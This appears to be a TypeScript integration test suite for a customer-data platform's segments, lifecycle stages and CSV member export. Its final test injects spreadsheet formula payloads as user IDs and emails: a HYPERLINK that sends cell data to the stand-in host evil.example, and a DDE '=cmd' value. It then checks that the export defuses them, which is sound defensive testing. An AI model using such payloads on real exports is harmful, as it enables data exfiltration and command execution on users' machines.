/** Segments and lifecycle through the API. */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import { DIALECTS } from './support/dialects.js';
import { admin, basic, startTestServer, type TestServer } from './support/touchpoint.js';

for (const dialect of DIALECTS) {
  describe(`segments API on ${dialect.name}`, () => {
    let tp: TestServer;
    let key: string;
    const api = (method: 'GET' | 'POST' | 'PUT' | 'DELETE', url: string, payload?: object) =>
      tp.app.inject({ method, url, headers: admin(), ...(payload && { payload }) });
    const settle = async () => {
      await tp.touchpoint.pipeline.drain();
      await tp.touchpoint.jobs.settle();
      await tp.touchpoint.pipeline.drain();
    };
    before(async () => {
      tp = await startTestServer(dialect);
      key = (await tp.createSource('Shop', 'web')).writeKey;
      const batch = [
        { type: 'identify', userId: 'u1', traits: { email: 'one@example.com', tier: 'gold' } },
        { type: 'track', userId: 'u1', event: 'Order Completed', properties: { total: 50, category: 'shoes' } },
        { type: 'identify', userId: 'u2', traits: { email: 'two@example.com', tier: 'silver' } },
        { type: 'track', userId: 'u2', event: 'Product Viewed', properties: { category: 'hats' } },
      ];
      await tp.app.inject({ method: 'POST', url: '/v1/batch', headers: basic(key), payload: { batch } });
      await settle();
    });
    after(() => tp.dispose());

    it('previews a condition before saving it', async () => {
      const preview = await api('POST', '/api/segments/preview', {
        condition: { event: 'Order Completed', where: [{ property: 'category', op: 'eq', value: 'shoes' }] },
      });
      assert.equal(preview.statusCode, 200, preview.body);
      assert.equal(preview.json().count, 1);
      assert.equal(preview.json().total, 2);
      assert.equal(preview.json().sample[0].email, 'one@example.com');
      const bad = await api('POST', '/api/segments/preview', { condition: { any: [{ trait: 'tier', op: 'equals' }] } });
      assert.equal(bad.statusCode, 400);
      assert.equal(bad.json().error.code, 'TP_INVALID_CONDITION');
      assert.match(bad.json().error.message, /\/any\/0\/op/);
    });

    it('creates, lists, edits and deletes segments, with members as JSON and CSV', async () => {
      const created = await api('POST', '/api/segments', {
        name: 'Shoe buyers',
        condition: { event: 'Order Completed', where: [{ property: 'category', op: 'eq', value: 'shoes' }] },
      });
      assert.equal(created.statusCode, 201, created.body);
      await settle();
      const segment = (await api('GET', '/api/segments/Shoe%20buyers')).json();
      assert.deepEqual([segment.status, segment.size, segment.progress], ['ready', 1, 1]);
      const members = (await api('GET', `/api/segments/${segment.id}/members`)).json();
      assert.equal(members.members.length, 1);
      const csv = await api('GET', `/api/segments/${segment.id}/members?format=csv`);
      assert.match(String(csv.headers['content-type']), /text\/csv/);
      assert.deepEqual(
        csv.body
          .trim()
          .split('\n')
          .map((l) => l.split(',').slice(1, 3).join(',')),
        ['user_id,email', 'u1,one@example.com'],
      );
      const edited = await api('PUT', `/api/segments/${segment.id}`, { name: 'Buyers', condition: { profile: 'orders.count', op: 'gte', value: 0 } });
      assert.equal(edited.statusCode, 200, edited.body);
      await settle();
      assert.equal((await api('GET', '/api/segments/Buyers')).json().size, 2);
      const changes = (await api('GET', `/api/segments/${segment.id}/changes`)).json();
      assert.deepEqual(
        changes.changes.map((c: { change: string; trigger: string }) => [c.change, c.trigger]),
        [
          ['entered', 'backfill'],
          ['entered', 'edit'],
        ],
      );
      const listed = (await api('GET', '/api/segments')).json().segments;
      assert.deepEqual(
        listed.map((s: { name: string }) => s.name),
        ['Buyers'],
      );
      assert.equal((await api('POST', '/api/segments', { name: 'Buyers', condition: { stage: 'purchase' } })).json().error.code, 'TP_SEGMENT_EXISTS');
      assert.equal((await api('POST', '/api/segments', { name: 'Neither' })).json().error.code, 'TP_VALIDATION');
      assert.equal((await api('POST', '/api/segments', { name: 'Ghost ref', condition: { segment: 'Nope' } })).json().error.code, 'TP_INVALID_CONDITION');
      assert.equal((await api('DELETE', `/api/segments/${segment.id}`)).statusCode, 204);
      assert.equal((await api('GET', `/api/segments/${segment.id}`)).json().error.code, 'TP_SEGMENT_NOT_FOUND');
    });

    it('creates static segments from identifiers', async () => {
      const created = await api('POST', '/api/segments', {
        name: 'Press list',
        identifiers: [
          { kind: 'email', value: 'TWO@example.com' },
          { kind: 'email', value: 'x@example.com' },
        ],
      });
      assert.equal(created.statusCode, 201, created.body);
      assert.deepEqual([created.json().kind, created.json().size, created.json().unmatched], ['static', 1, 1]);
    });

    it('refuses static segment identifiers of a kind that does not exist, naming the kinds', async () => {
      const typo = await api('POST', '/api/segments', {
        name: 'Typo list',
        identifiers: [
          { kind: 'email', value: 'one@example.com' },
          { kind: 'emial', value: 'x' },
        ],
      });
      assert.equal(typo.statusCode, 400, typo.body);
      assert.equal(typo.json().error.code, 'TP_VALIDATION');
      assert.match(typo.json().error.message, /body\/identifiers\/1\/kind "emial" is not an identifier kind; use one of userId, .*email/);
      assert.equal((await api('GET', '/api/segments/Typo%20list')).json().error.code, 'TP_SEGMENT_NOT_FOUND', 'nothing was created');
      const edit = await api('PUT', '/api/segments/Press%20list', { identifiers: [{ kind: 'Email', value: 'one@example.com' }] });
      assert.equal(edit.json().error.code, 'TP_VALIDATION');
      assert.equal((await api('GET', '/api/segments/Press%20list')).json().size, 1, 'the members were kept');
    });

    it('shows the stage, its history and segments on the profile', async () => {
      const profile = (await api('GET', '/api/profiles/lookup?kind=userId&value=u1')).json();
      assert.equal(profile.stage.name, 'purchase');
      assert.deepEqual(
        profile.stageHistory.map((h: { to: string }) => h.to),
        ['consideration', 'purchase'],
        'identify gave an email, then the order',
      );
      const u2 = (await api('GET', '/api/profiles/lookup?kind=userId&value=u2')).json();
      assert.equal(u2.stage.name, 'consideration');
      assert.deepEqual(
        u2.segments.map((s: { name: string }) => s.name),
        ['Press list'],
      );
    });

    it('reads and replaces the lifecycle model, and counts profiles per stage', async () => {
      const model = (await api('GET', '/api/lifecycle')).json();
      assert.deepEqual(
        model.stages.map((s: { name: string }) => s.name),
        ['lapsed', 'advocacy', 'loyalty', 'purchase', 'consideration', 'awareness'],
      );
      assert.deepEqual((await api('GET', '/api/lifecycle/distribution')).json().stages, { consideration: 1, purchase: 1 });
      const replaced = await api('PUT', '/api/lifecycle', {
        stages: [
          { name: 'customer', condition: { profile: 'orders.count', op: 'gte', value: 1 } },
          { name: 'prospect', condition: { trait: 'email', op: 'exists' } },
        ],
      });
      assert.equal(replaced.statusCode, 200, replaced.body);
      await settle();
      assert.deepEqual((await api('GET', '/api/lifecycle/distribution')).json().stages, { customer: 1, prospect: 1 });
      const invalid = await api('PUT', '/api/lifecycle', { stages: [{ name: 'Bad Name', condition: { stage: 1 } }] });
      assert.equal(invalid.json().error.code, 'TP_INVALID_CONDITION');
      assert.match(invalid.json().error.message, /\/stages\/0\/name.*\/stages\/0\/condition\/stage/);
      assert.equal((await api('GET', '/api/lifecycle/distribution?at=yesterday')).json().error.code, 'TP_VALIDATION');
      assert.deepEqual((await api('GET', '/api/lifecycle/distribution?at=2020-01-01')).json().stages, {});
    });

    // Last: its profiles would change the counts above.
    it('exports members as CSV that a spreadsheet will not run as formulas', async () => {
      const hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
      const batch = [
        { type: 'identify', userId: hostile, traits: { email: '=cmd|"/c,calc"!a0@example.com' } },
        { type: 'identify', userId: '@SUM(1+1)', traits: { email: '+1@example.com' } },
        { type: 'identify', userId: '-2+3', traits: { email: 'plain@example.com' } },
      ];
      assert.equal((await tp.app.inject({ method: 'POST', url: '/v1/batch', headers: basic(key), payload: { batch } })).statusCode, 200);
      await settle();
      const identifiers = batch.map((m) => ({ kind: 'userId', value: m.userId }));
      const created = await api('POST', '/api/segments', { name: 'Formulas', identifiers });
      assert.equal(created.json().size, 3, created.body);
      const csv = await api('GET', `/api/segments/${created.json().id}/members?format=csv`);
      assert.equal(csv.statusCode, 200);
      const rows: Record<string, string>[] = parse(csv.body, { columns: true });
      assert.deepEqual(rows.map((r) => [r.user_id, r.email]).sort(), [
        [`'-2+3`, 'plain@example.com'],
        [`'=HYPERLINK("http://evil.example/?"&A1,"Click")`, `'=cmd|"/c,calc"!a0@example.com`],
        [`'@SUM(1+1)`, `'+1@example.com`],
      ]);
      assert.ok(rows.every((r) => /^\d{4}-\d{2}-\d{2}T/.test(r.since!)));
    });
  });
}
